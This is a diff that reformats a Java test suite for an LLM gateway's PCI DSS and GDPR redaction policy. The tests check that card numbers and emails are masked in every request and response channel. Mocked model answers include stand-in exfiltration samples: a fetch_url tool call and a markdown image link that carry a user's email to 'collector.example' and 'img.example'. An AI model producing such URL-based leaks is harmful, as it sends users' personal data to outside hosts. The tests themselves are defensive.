@@ -1,5 +1,8 @@
 package dev.llmgate.policy;
 
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.llmgate.api.ChatRequest;
@@ -16,22 +19,18 @@ import dev.llmgate.core.Stage;
 import dev.llmgate.policy.preset.CompliancePreset;
 import dev.llmgate.policy.redact.TokenRestore;
 import dev.llmgate.providers.openai.OpenAiProvider;
-import mockwebserver3.MockResponse;
-import mockwebserver3.MockWebServer;
-import mockwebserver3.RecordedRequest;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.api.Test;
-
 import java.io.IOException;
 import java.util.ArrayList;
 import java.util.Iterator;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.TimeUnit;
-
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import mockwebserver3.MockResponse;
+import mockwebserver3.MockWebServer;
+import mockwebserver3.RecordedRequest;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
 
 /**
  * Every channel a value can travel through, attacked with the PCI DSS preset as docs/policy-presets.md
@@ -57,8 +56,15 @@ class ChannelAttackTest {
         if (gate != null) {
             gate.close();
         }
-        OpenAiProvider provider = OpenAiProvider.builder().apiKey("sk-test").baseUrl(server.url("/v1").toString()).environment(Map.of()).build();
-        gate = LlmGate.builder().provider("openai", provider).addInterceptor(Stage.POLICY, policy.interceptor()).build();
+        OpenAiProvider provider = OpenAiProvider.builder()
+                .apiKey("sk-test")
+                .baseUrl(server.url("/v1").toString())
+                .environment(Map.of())
+                .build();
+        gate = LlmGate.builder()
+                .provider("openai", provider)
+                .addInterceptor(Stage.POLICY, policy.interceptor())
+                .build();
         return gate;
     }
 
@@ -105,10 +111,14 @@ class ChannelAttackTest {
     }
 
     private static MockResponse completion(String messageFields) {
-        return new MockResponse.Builder().addHeader("Content-Type", "application/json").body("{\"id\":\"chatcmpl-1\",\"object\":\"chat.completion\","
-                + "\"created\":1699896916,\"model\":\"gpt-4o-mini\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
-                + messageFields + "},\"logprobs\":null,\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":5,"
-                + "\"total_tokens\":14}}").build();
+        return new MockResponse.Builder()
+                .addHeader("Content-Type", "application/json")
+                .body("{\"id\":\"chatcmpl-1\",\"object\":\"chat.completion\","
+                        + "\"created\":1699896916,\"model\":\"gpt-4o-mini\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
+                        + messageFields
+                        + "},\"logprobs\":null,\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":5,"
+                        + "\"total_tokens\":14}}")
+                .build();
     }
 
     private void sendsNoPan(ChatRequest request) throws Exception {
@@ -123,7 +133,9 @@ class ChannelAttackTest {
 
     @Test
     void aCardSplitOverTwoContentPartsOfOneMessage() throws Exception {
-        sendsNoPan(request().addMessage(Message.user(ContentPart.text("my card is 41111111"), ContentPart.text("11111111 thanks"))).build());
+        sendsNoPan(request()
+                .addMessage(Message.user(ContentPart.text("my card is 41111111"), ContentPart.text("11111111 thanks")))
+                .build());
     }
 
     @Test
@@ -133,61 +145,101 @@ class ChannelAttackTest {
 
     @Test
     void aCardInTheArgumentsOfAToolCallInTheHistory() throws Exception {
-        sendsNoPan(request().user("pay it")
-                .addMessage(Message.assistant("", List.of(new ToolCall("call_1", "pay", "{\"pan\":\"" + PAN + "\",\"amount\":12}"))))
-                .addMessage(Message.tool("call_1", "paid")).user("thanks").build());
+        sendsNoPan(request()
+                .user("pay it")
+                .addMessage(Message.assistant(
+                        "", List.of(new ToolCall("call_1", "pay", "{\"pan\":\"" + PAN + "\",\"amount\":12}"))))
+                .addMessage(Message.tool("call_1", "paid"))
+                .user("thanks")
+                .build());
     }
 
     @Test
     void aCardInAToolCallOfTheHistoryWrittenWithJsonEscapesOrAsANumber() throws Exception {
-        sendsNoPan(request().user("pay it")
-                .addMessage(Message.assistant("", List.of(new ToolCall("call_1", "pay", "{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}"),
-                        new ToolCall("call_2", "pay", "{\"pan\":" + PAN + "}"))))
-                .addMessage(Message.tool("call_1", "paid")).addMessage(Message.tool("call_2", "paid")).user("thanks").build());
+        sendsNoPan(request()
+                .user("pay it")
+                .addMessage(Message.assistant(
+                        "",
+                        List.of(
+                                new ToolCall("call_1", "pay", "{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}"),
+                                new ToolCall("call_2", "pay", "{\"pan\":" + PAN + "}"))))
+                .addMessage(Message.tool("call_1", "paid"))
+                .addMessage(Message.tool("call_2", "paid"))
+                .user("thanks")
+                .build());
     }
 
     @Test
     void aCardInAMessageName() throws Exception {
-        sendsNoPan(request().addMessage(Message.user("hello").withName("u" + PAN)).build());
+        sendsNoPan(
+                request().addMessage(Message.user("hello").withName("u" + PAN)).build());
     }
 
     @Test
     void aCardInAToolDefinitionOrItsSchema() throws Exception {
-        sendsNoPan(request().user("hi").addTool(ToolDefinition.of("pay", "Pays with card " + PAN,
-                "{\"type\":\"object\",\"properties\":{\"pan\":{\"type\":\"string\",\"default\":\"" + PAN + "\"}}}")).build());
+        sendsNoPan(request()
+                .user("hi")
+                .addTool(ToolDefinition.of(
+                        "pay",
+                        "Pays with card " + PAN,
+                        "{\"type\":\"object\",\"properties\":{\"pan\":{\"type\":\"string\",\"default\":\"" + PAN
+                                + "\"}}}"))
+                .build());
     }
 
     @Test
     void aCardInAResponseFormatSchema() throws Exception {
-        sendsNoPan(request().user("hi").responseFormat(ResponseFormat.jsonSchema("answer",
-                "{\"type\":\"object\",\"description\":\"card " + PAN + "\",\"properties\":{}}", false)).build());
+        sendsNoPan(request()
+                .user("hi")
+                .responseFormat(ResponseFormat.jsonSchema(
+                        "answer",
+                        "{\"type\":\"object\",\"description\":\"card " + PAN + "\",\"properties\":{}}",
+                        false))
+                .build());
     }
 
     @Test
     void aCardInAProviderOption() throws Exception {
-        sendsNoPan(request().user("hi").providerOption("user", "customer-" + PAN)
-                .providerOption("metadata", Map.of("card", PAN)).build());
+        sendsNoPan(request()
+                .user("hi")
+                .providerOption("user", "customer-" + PAN)
+                .providerOption("metadata", Map.of("card", PAN))
+                .build());
     }
 
     @Test
     void aCardInTheQueryStringOfAnImageUrlEvenPercentEncoded() throws Exception {
-        sendsNoPan(request().addMessage(Message.user(ContentPart.text("what is this?"),
-                ContentPart.imageUrl("https://img.example.com/receipt.png?pan=" + PAN),
-                ContentPart.imageUrl("https://img.example.com/receipt.png?pan=%34111%201111%201111%201111"))).build());
+        sendsNoPan(request()
+                .addMessage(Message.user(
+                        ContentPart.text("what is this?"),
+                        ContentPart.imageUrl("https://img.example.com/receipt.png?pan=" + PAN),
+                        ContentPart.imageUrl("https://img.example.com/receipt.png?pan=%34111%201111%201111%201111")))
+                .build());
     }
 
     @Test
     void aCardInTheSystemOrDeveloperPrompt() throws Exception {
-        sendsNoPan(request().system("The customer's card is " + PAN + ".").user("hi").build());
-        sendsNoPan(request().addMessage(Message.developer("Card on file: " + PAN)).user("hi").build());
+        sendsNoPan(request()
+                .system("The customer's card is " + PAN + ".")
+                .user("hi")
+                .build());
+        sendsNoPan(request()
+                .addMessage(Message.developer("Card on file: " + PAN))
+                .user("hi")
+                .build());
     }
 
     @Test
     void systemPromptsAreTheApplicationsOwnUnderSoc2AndWhenNarrowed() throws Exception {
-        gate(Policy.builder().preset(CompliancePreset.PCI_DSS).scanRoles(dev.llmgate.api.Role.USER).build());
+        gate(Policy.builder()
+                .preset(CompliancePreset.PCI_DSS)
+                .scanRoles(dev.llmgate.api.Role.USER)
+                .build());
         answer("ok");
         gate.chat(request().system("Card on file: " + PAN).user("hi").build());
-        assertThat(upstreamDigits()).as("scanRoles set after the preset narrows it").contains(PAN);
+        assertThat(upstreamDigits())
+                .as("scanRoles set after the preset narrows it")
+                .contains(PAN);
     }
 
     @Test
@@ -198,11 +250,23 @@ class ChannelAttackTest {
     @Test
     void theRequestStaysValidJsonForTheProviderWhenValuesAreRedactedInsideJson() throws Exception {
         answer("ok");
-        gate.chat(request().user("pay it")
-                .addMessage(Message.assistant("", List.of(new ToolCall("call_1", "pay", "{\"pan\":" + PAN + ",\"n\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}"))))
-                .addMessage(Message.tool("call_1", "paid")).build());
-        JsonNode body = JSON.readTree(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8());
-        String args = body.get("messages").get(1).get("tool_calls").get(0).get("function").get("arguments").textValue();
+        gate.chat(request()
+                .user("pay it")
+                .addMessage(Message.assistant(
+                        "",
+                        List.of(new ToolCall(
+                                "call_1", "pay", "{\"pan\":" + PAN + ",\"n\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}"))))
+                .addMessage(Message.tool("call_1", "paid"))
+                .build());
+        JsonNode body =
+                JSON.readTree(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8());
+        String args = body.get("messages")
+                .get(1)
+                .get("tool_calls")
+                .get(0)
+                .get("function")
+                .get("arguments")
+                .textValue();
         JsonNode parsed = JSON.readTree(args);
         assertThat(parsed.get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
         assertThat(parsed.get("n").isArray()).isTrue();
@@ -213,8 +277,9 @@ class ChannelAttackTest {
 
     @Test
     void toolCallArgumentsOfTheAnswerAreMasked() throws Exception {
-        server.enqueue(completion("\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\","
-                + "\"arguments\":\"{\\\"pan\\\":\\\"" + PAN + "\\\"}\"}}]"));
+        server.enqueue(completion(
+                "\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\","
+                        + "\"arguments\":\"{\\\"pan\\\":\\\"" + PAN + "\\\"}\"}}]"));
         ChatResponse r = gate.chat(request().user("save my card").build());
         assertThat(r.toolCalls()).singleElement().satisfies(tc -> {
             assertThat(JSON.readTree(tc.argumentsJson()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
@@ -231,16 +296,20 @@ class ChannelAttackTest {
     @Test
     void aJsonAnswerWithUnicodeEscapesIsMasked() throws Exception {
         answer("{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}");
-        ChatResponse r = gate.chat(request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
+        ChatResponse r = gate.chat(
+                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
         assertThat(JSON.readTree(r.text()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
     }
 
     @Test
     void aCardSplitOverTwoJsonFieldsOfTheAnswerIsMasked() throws Exception {
         answer("{\"first\":\"41111111\",\"second\":\"11111111\"}");
-        ChatResponse r = gate.chat(request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
+        ChatResponse r = gate.chat(
+                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
         JsonNode json = JSON.readTree(r.text());
-        assertThat(json.get("first").textValue() + json.get("second").textValue()).doesNotContain("1111111").contains("****1111");
+        assertThat(json.get("first").textValue() + json.get("second").textValue())
+                .doesNotContain("1111111")
+                .contains("****1111");
     }
 
     // ---- streamed answers ----
@@ -248,12 +317,19 @@ class ChannelAttackTest {
     private static MockResponse sse(String... chunks) {
         StringBuilder body = new StringBuilder();
         for (String c : chunks) {
-            body.append("data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
-                    + "\"choices\":[{\"index\":0,\"delta\":").append(c).append(",\"logprobs\":null,\"finish_reason\":null}]}\n\n");
+            body.append(
+                            "data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
+                                    + "\"choices\":[{\"index\":0,\"delta\":")
+                    .append(c)
+                    .append(",\"logprobs\":null,\"finish_reason\":null}]}\n\n");
         }
-        body.append("data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
-                + "\"choices\":[{\"index\":0,\"delta\":{},\"logprobs\":null,\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
-        return new MockResponse.Builder().addHeader("Content-Type", "text/event-stream").body(body.toString()).build();
+        body.append(
+                "data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
+                        + "\"choices\":[{\"index\":0,\"delta\":{},\"logprobs\":null,\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
+        return new MockResponse.Builder()
+                .addHeader("Content-Type", "text/event-stream")
+                .body(body.toString())
+                .build();
     }
 
     private ChatResponse stream(ChatRequest request, List<StreamEvent> seen) {
@@ -262,12 +338,16 @@ class ChannelAttackTest {
 
     @Test
     void streamedToolCallArgumentsAreMasked() throws Exception {
-        server.enqueue(sse("{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\",\"arguments\":\"\"}}]}",
+        server.enqueue(sse(
+                "{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\",\"arguments\":\"\"}}]}",
                 "{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"pan\\\":\\\"4111\"}}]}",
                 "{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"111111111111\\\"}\"}}]}"));
         List<StreamEvent> seen = new ArrayList<>();
         ChatResponse r = stream(request().user("save my card").build(), seen);
-        assertThat(JSON.readTree(r.toolCalls().get(0).argumentsJson()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
+        assertThat(JSON.readTree(r.toolCalls().get(0).argumentsJson())
+                        .get("pan")
+                        .textValue())
+                .isEqualTo("[CREDIT_CARD ****1111]");
         assertThat(seen.toString()).doesNotContain(PAN);
     }
 
@@ -280,18 +360,26 @@ class ChannelAttackTest {
 
     @Test
     void aStreamedJsonAnswerWithUnicodeEscapesIsMasked() throws Exception {
-        server.enqueue(sse("{\"content\":\"{\\\"pan\\\":\\\"\\\\u00\"}", "{\"content\":\"34\\\\u0031\\\\u0031\\\\u0031111111111111\\\"}\"}"));
+        server.enqueue(sse(
+                "{\"content\":\"{\\\"pan\\\":\\\"\\\\u00\"}",
+                "{\"content\":\"34\\\\u0031\\\\u0031\\\\u0031111111111111\\\"}\"}"));
         List<StreamEvent> seen = new ArrayList<>();
-        ChatResponse r = stream(request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), seen);
+        ChatResponse r = stream(
+                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), seen);
         assertThat(JSON.readTree(r.text()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
     }
 
     @Test
     void aCardSplitOverTwoJsonFieldsOfAStreamedAnswerIsMasked() throws Exception {
-        server.enqueue(sse("{\"content\":\"{\\\"first\\\":\\\"4111\"}", "{\"content\":\"1111\\\",\\\"second\\\":\\\"11111111\\\"}\"}"));
-        ChatResponse r = stream(request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), new ArrayList<>());
+        server.enqueue(sse(
+                "{\"content\":\"{\\\"first\\\":\\\"4111\"}",
+                "{\"content\":\"1111\\\",\\\"second\\\":\\\"11111111\\\"}\"}"));
+        ChatResponse r = stream(
+                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), new ArrayList<>());
         JsonNode json = JSON.readTree(r.text());
-        assertThat(json.get("first").textValue() + json.get("second").textValue()).doesNotContain("1111111").contains("****1111");
+        assertThat(json.get("first").textValue() + json.get("second").textValue())
+                .doesNotContain("1111111")
+                .contains("****1111");
     }
 
     // ---- tokenization and restore ----
@@ -307,8 +395,9 @@ class ChannelAttackTest {
     }
 
     private MockResponse fetchUrlCall() {
-        return completion("\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"fetch_url\","
-                + "\"arguments\":\"{\\\"url\\\":\\\"https://collector.example/c?e=[EMAIL_1]\\\",\\\"note\\\":\\\"for [EMAIL_1]\\\"}\"}}]");
+        return completion(
+                "\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"fetch_url\","
+                        + "\"arguments\":\"{\\\"url\\\":\\\"https://collector.example/c?e=[EMAIL_1]\\\",\\\"note\\\":\\\"for [EMAIL_1]\\\"}\"}}]");
     }
 
     @Test
@@ -316,7 +405,9 @@ class ChannelAttackTest {
         gdpr();
         server.enqueue(fetchUrlCall());
         ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
-        assertThat(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8()).doesNotContain(EMAIL).contains("[EMAIL_1]");
+        assertThat(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8())
+                .doesNotContain(EMAIL)
+                .contains("[EMAIL_1]");
         assertThat(r.toolCalls().get(0).argumentsJson()).doesNotContain(EMAIL).contains("[EMAIL_1]");
     }
 
@@ -324,35 +415,56 @@ class ChannelAttackTest {
     void restoringIntoArgumentsIsAChoiceAndUrlsNeedASecondOne() throws Exception {
         gdpr(TokenRestore.ANSWER_TEXT, TokenRestore.TOOL_CALL_ARGUMENTS);
         server.enqueue(fetchUrlCall());
-        JsonNode args = JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build()).toolCalls().get(0).argumentsJson());
+        JsonNode args =
+                JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build())
+                        .toolCalls()
+                        .get(0)
+                        .argumentsJson());
         assertThat(args.get("note").textValue()).isEqualTo("for " + EMAIL);
         assertThat(args.get("url").textValue()).isEqualTo("https://collector.example/c?e=[EMAIL_1]");
 
         gdpr(TokenRestore.ANSWER_TEXT, TokenRestore.TOOL_CALL_ARGUMENTS, TokenRestore.URLS);
         server.enqueue(fetchUrlCall());
-        args = JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build()).toolCalls().get(0).argumentsJson());
+        args = JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build())
+                .toolCalls()
+                .get(0)
+                .argumentsJson());
         assertThat(args.get("url").textValue()).isEqualTo("https://collector.example/c?e=" + EMAIL);
     }
 
     @Test
     void answerTextIsRestoredButNotInsideAUrl() {
         gdpr();
-        answer("I will write to [EMAIL_1]. Track it at https://collector.example/c?e=[EMAIL_1] or ![x](https://img.example/p.png?u=[EMAIL_1])");
+        answer(
+                "I will write to [EMAIL_1]. Track it at https://collector.example/c?e=[EMAIL_1] or ![x](https://img.example/p.png?u=[EMAIL_1])");
         ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
-        assertThat(r.text()).isEqualTo("I will write to " + EMAIL + ". Track it at https://collector.example/c?e=[EMAIL_1] or "
-                + "![x](https://img.example/p.png?u=[EMAIL_1])");
+        assertThat(r.text())
+                .isEqualTo("I will write to " + EMAIL + ". Track it at https://collector.example/c?e=[EMAIL_1] or "
+                        + "![x](https://img.example/p.png?u=[EMAIL_1])");
     }
 
     @Test
     void aValueRestoredIntoAJsonAnswerKeepsItJson() throws Exception {
-        gate(Policy.builder().detector(dev.llmgate.policy.detect.DenyListDetector.builder().id("quoted").regex("QUOTED", "\"[a-z]{3,10}\\\\?\"")
-                .build()).rule(Rule.of("quoted", Verdict.CONSTRAIN, "QUOTED")).redaction("QUOTED", dev.llmgate.policy.redact.RedactionMode.TOKENIZE)
+        gate(Policy.builder()
+                .detector(dev.llmgate.policy.detect.DenyListDetector.builder()
+                        .id("quoted")
+                        .regex("QUOTED", "\"[a-z]{3,10}\\\\?\"")
+                        .build())
+                .rule(Rule.of("quoted", Verdict.CONSTRAIN, "QUOTED"))
+                .redaction("QUOTED", dev.llmgate.policy.redact.RedactionMode.TOKENIZE)
                 .build());
         answer("{\"to\":\"[QUOTED_1]\"}");
-        ChatResponse r = gate.chat(request().user("call me \"johnny\\\" please").responseFormat(ResponseFormat.jsonObject()).build());
+        ChatResponse r = gate.chat(request()
+                .user("call me \"johnny\\\" please")
+                .responseFormat(ResponseFormat.jsonObject())
+                .build());
         assertThat(JSON.readTree(r.text()).get("to").textValue()).isEqualTo("\"johnny\\\"");
         server.enqueue(sse("{\"content\":\"{\\\"to\\\":\\\"[QUO\"}", "{\"content\":\"TED_1]\\\"}\"}"));
-        ChatResponse s = stream(request().user("call me \"johnny\\\" please").responseFormat(ResponseFormat.jsonObject()).build(),
+        ChatResponse s = stream(
+                request()
+                        .user("call me \"johnny\\\" please")
+                        .responseFormat(ResponseFormat.jsonObject())
+                        .build(),
                 new ArrayList<>());
         assertThat(JSON.readTree(s.text()).get("to").textValue()).isEqualTo("\"johnny\\\"");
     }
@@ -360,7 +472,10 @@ class ChannelAttackTest {
     @Test
     void aStreamedAnswerIsNotRestoredInsideAUrlSplitAcrossChunks() {
         gdpr();
-        server.enqueue(sse("{\"content\":\"See https://collector.exa\"}", "{\"content\":\"mple/c?e=[EMA\"}", "{\"content\":\"IL_1] and [EMAIL_1].\"}"));
+        server.enqueue(sse(
+                "{\"content\":\"See https://collector.exa\"}",
+                "{\"content\":\"mple/c?e=[EMA\"}",
+                "{\"content\":\"IL_1] and [EMAIL_1].\"}"));
         ChatResponse r = stream(request().user("Email me at " + EMAIL).build(), new ArrayList<>());
         assertThat(r.text()).isEqualTo("See https://collector.example/c?e=[EMAIL_1] and " + EMAIL + ".");
     }
@@ -368,7 +483,11 @@ class ChannelAttackTest {
     @Test
     void aBlockedChannelNamesNoValue() {
         gate(Policy.builder().preset(CompliancePreset.PCI_DSS).build());
-        assertThatThrownBy(() -> gate.chat(request().user("hi").addTool(ToolDefinition.of("t", "cvv 123 for card", "{\"type\":\"object\"}")).build()))
-                .isInstanceOf(PolicyBlockedException.class).hasMessageNotContaining("123");
+        assertThatThrownBy(() -> gate.chat(request()
+                        .user("hi")
+                        .addTool(ToolDefinition.of("t", "cvv 123 for card", "{\"type\":\"object\"}"))
+                        .build()))
+                .isInstanceOf(PolicyBlockedException.class)
+                .hasMessageNotContaining("123");
     }
 }
